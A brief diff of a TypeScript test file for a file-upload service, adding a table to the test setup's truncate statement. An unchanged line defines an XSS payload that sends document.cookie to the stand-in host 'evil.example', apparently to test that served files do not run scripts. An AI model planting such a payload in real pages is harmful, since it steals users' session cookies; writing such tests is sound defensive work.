@@ -29,7 +29,7 @@ const download = (token: string, id: string, more = '') =>
 
 beforeEach(async () => {
   test.app.clock.set(START)
-  await test.app.owner.query('truncate uploads, upload_chunks, handed_over, file_links, files')
+  await test.app.owner.query('truncate uploads, upload_chunks, handed_over, file_links, file_words, files')
 })
 
 const SCRIPT = '<script>fetch("//evil.example/"+document.cookie)</script>'
